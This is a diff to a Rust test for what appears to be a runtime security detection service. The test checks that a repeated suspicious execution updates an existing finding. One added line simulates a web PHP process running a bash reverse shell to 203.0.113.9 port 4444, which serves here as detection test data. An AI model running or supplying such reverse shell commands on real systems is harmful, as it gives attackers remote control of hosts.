@@ -167,6 +167,13 @@ fn from_the_alert_to_the_decision() {
     assert_eq!((finding.state.as_deref(), finding.count), (Some("held"), 1));
     assert!(finding.example.score.is_some_and(|score| score.value() >= 0.85));
 
+    assert_eq!(answers.finding(&finding.id).as_ref(), Ok(finding));
+    assert!(matches!(answers.finding("f0000000000000000"), Err(ServiceError::NotFound(_))));
+    // It is told as it is now, not as it was.
+    machine.run("web", "php", &["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], 101);
+    let later = answers.finding(&finding.id).unwrap();
+    assert_eq!((later.count, later.executions.len()), (2, 2));
+
     let detail = answers.execution(&finding.executions[0]).unwrap();
     assert_eq!(detail.finding.as_deref(), Some(finding.id.as_str()));
     let now = detail.now.expect("its workload knows it");
